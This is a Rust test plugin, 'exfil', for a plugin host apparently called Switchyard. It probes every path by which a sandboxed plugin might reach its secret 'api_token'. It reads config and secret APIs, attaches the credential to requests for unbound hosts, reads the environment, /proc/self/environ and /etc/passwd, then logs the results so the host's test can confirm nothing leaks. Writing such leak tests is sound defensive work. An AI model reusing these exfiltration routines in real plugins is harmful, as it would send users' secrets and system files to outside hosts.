//! `exfil`: a test plugin that tries every path a plugin has to the value
//! of its secret `api_token`, reports what each gave and logs the report.
//! The host's secrets test uses it to assert that the value appears nowhere
//! in the report (an action's answer or a delivery's summary) nor in the
//! host's logs.

use serde_json::{Value, json};
use switchyard_plugin_sdk::http::{Credential, Request};
use switchyard_plugin_sdk::{
    ConfigKey, Context, Delivery, Manifest, Plugin, PluginError, Verified, WebhookRequest, config,
    export_plugin, log, secrets,
};

/// The secret it is after.
const SECRET: &str = "api_token";
/// A header template naming the secret.
const TEMPLATE: &str = "{api_token}";
/// Five requests this long at most stay within the host's default call
/// deadline of 10 s, so every path gets its turn and the report comes back.
const TIMEOUT_MS: u32 = 1_500;

struct Exfil;

impl Plugin for Exfil {
    fn manifest() -> Manifest {
        Manifest::new(
            "exfil",
            env!("CARGO_PKG_VERSION"),
            "Tries to read its own secret",
        )
        .action("run", "reports what every path to `api_token` gave")
        .config(ConfigKey::optional_secret(
            SECRET,
            "the secret it tries to read",
        ))
    }

    fn verify_webhook(_ctx: &Context, request: WebhookRequest) -> Result<Verified, String> {
        let event_id = request.header("x-probe-id").ok_or("missing x-probe-id")?;
        let event_type = "exfil.webhook".to_owned();
        Ok(Verified {
            event_id: event_id.to_owned(),
            event_type,
        })
    }

    fn handle_webhook(_ctx: &Context, delivery: Delivery) -> Result<String, PluginError> {
        exfiltrate(&delivery.body)
    }

    fn call_action(_ctx: &Context, _name: &str, input: &str) -> Result<String, PluginError> {
        exfiltrate(input.as_bytes())
    }
}

/// `{"allowed_url": …, "other_url": …}` → what each path gave, by name.
/// `other_url` should be a host the secret is not bound to, `allowed_url`
/// one on the allowlist that the secret is not bound to either.
fn exfiltrate(input: &[u8]) -> Result<String, PluginError> {
    let input: Value =
        serde_json::from_slice(input).map_err(|e| PluginError::invalid_input(e.to_string()))?;
    let report = json!({
        "capabilities": capabilities(),
        "requests": requests(url(&input, "allowed_url")?, url(&input, "other_url")?),
        "sandbox": sandbox(),
    })
    .to_string();
    log::warn("exfil report", &[("report", &report)]);
    eprintln!("exfil report: {report}");
    Ok(report)
}

/// What config and secrets give when asked for the secret by name.
fn capabilities() -> Value {
    let mac = secrets::hmac_sha256(SECRET, b"").map(|mac| hex(&mac));
    json!({
        "config_get": config::get(SECRET),
        "config_all": config::all(),
        "has": secrets::has(SECRET),
        "hmac_empty": mac.map_err(|e| e.to_string()),
    })
}

/// The secret attached to requests for hosts it is not bound to, and its
/// template in a plain header, which the host must send as written.
fn requests(allowed: &str, other: &str) -> Value {
    let with = |url: &str, credential| send(Request::get(url).credential(credential));
    json!({
        "bearer_other": with(other, Credential::bearer(SECRET)),
        "basic_other": with(other, Credential::basic(SECRET)),
        "template_other": with(other, Credential::header("x-token", TEMPLATE)),
        "template_allowed": with(allowed, Credential::header("x-token", TEMPLATE)),
        "plain_header_allowed": send(Request::get(allowed).header("x-token", TEMPLATE)),
    })
}

/// What WASI shows of the host process: its environment and its files.
fn sandbox() -> Value {
    let env: Vec<String> = std::env::vars_os()
        .map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy()))
        .collect();
    let read = |path: &str| std::fs::read_to_string(path).map_err(|e| e.to_string());
    json!({
        "env": env,
        "proc_self_environ": read("/proc/self/environ"),
        "etc_passwd": read("/etc/passwd"),
    })
}

fn url<'a>(input: &'a Value, key: &str) -> Result<&'a str, PluginError> {
    input[key]
        .as_str()
        .ok_or_else(|| PluginError::invalid_input(format!("no {key}")))
}

/// The status and body an upstream answered, or the host's error text.
fn send(request: Request) -> Value {
    match request.timeout_ms(TIMEOUT_MS).send() {
        Ok(r) => json!({ "status": r.status, "body": String::from_utf8_lossy(&r.body) }),
        Err(error) => json!({ "error": error.to_string() }),
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

export_plugin!(Exfil);
